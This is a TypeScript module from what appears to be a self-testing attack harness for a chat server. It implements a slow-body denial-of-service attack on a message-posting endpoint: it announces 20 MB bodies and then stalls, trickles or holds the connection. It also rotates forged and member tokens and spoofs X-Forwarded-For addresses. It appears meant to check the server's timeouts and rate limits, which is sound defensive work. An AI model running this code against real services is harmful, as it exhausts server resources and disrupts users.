import { type Attack, each, forgedToken, from, pause } from "./attack.ts";
import { close, head, open, readSome, write } from "./wire.ts";

/** Bytes that are announced: as much as a message may have. */
const ANNOUNCED = 20 * 1024 * 1024;
/** Bytes that those send who seem to mean it. */
const MUCH = 19 * 1024 * 1024;

/**
 * Announces a large body and doesn't deliver it. `way`: `stop` and `trickle`, anonymously, with a
 * forged token and as members in turn; `hold`: as members who send nearly all of it first.
 */
export const bodies: Attack = async (order, off, begun) => {
  const { url, count, tokens = [], channelId, way, again } = order;
  const result = { sent: 0, gone: 0, notices: 0, slowest: 0, other: 0 };
  const whose = [
    () => undefined,
    () => forgedToken(),
    ...(tokens.length ? [(i: number) => tokens[i % tokens.length]] : []),
  ];
  await each(count, begun, async (i, begun) => {
    do {
      const token = way === "hold" ? tokens[i % tokens.length] : whose[i % whose.length](i);
      const request = head(url, `POST /api/messages/${channelId}`, {
        Authorization: token && `Bearer ${token}`,
        "Content-Type": "application/json",
        "Content-Length": ANNOUNCED,
        "X-Forwarded-For": from.v4(i),
      });
      const connection = await open(url).catch(() => undefined);
      if (!connection) {
        await pause(500, off);
        continue;
      }
      const began = performance.now();
      const ended = responseOf(connection);
      const stop = new AbortController();
      ended.then(() => stop.abort());
      off.addEventListener("abort", () => close(connection));
      result.sent++;
      deliver(connection, request, way!, AbortSignal.any([off, stop.signal])).catch(() => {});
      begun();
      const response = await ended;
      close(connection);
      if (!off.aborted) {
        result.gone++;
        if (/^HTTP\/1\.1 (408|401|429|503|413)/.test(response)) result.notices++;
        else result.other++;
        result.slowest = Math.max(result.slowest, (performance.now() - began) / 1000);
      }
      await pause(200, off);
    } while (again && !off.aborted);
  });
  return result;
};

async function deliver(
  connection: Deno.Conn,
  request: string,
  way: string,
  stop: AbortSignal,
): Promise<void> {
  await write(connection, `${request}{"iv":"AAAAAAAAAAAAAAAA","encryptedContent":"`);
  if (way === "hold") {
    const chunk = new Uint8Array(65_536).fill(65);
    for (let sent = 0; sent < MUCH && !stop.aborted; sent += chunk.length) {
      await write(connection, chunk);
    }
  }
  while (way === "trickle" && !stop.aborted) {
    await pause(1000, stop);
    await write(connection, "A");
  }
}

/** All that comes until the other side ends. */
async function responseOf(connection: Deno.Conn): Promise<string> {
  let all = "";
  for (let more; (more = await readSome(connection));) all += more;
  return all;
}
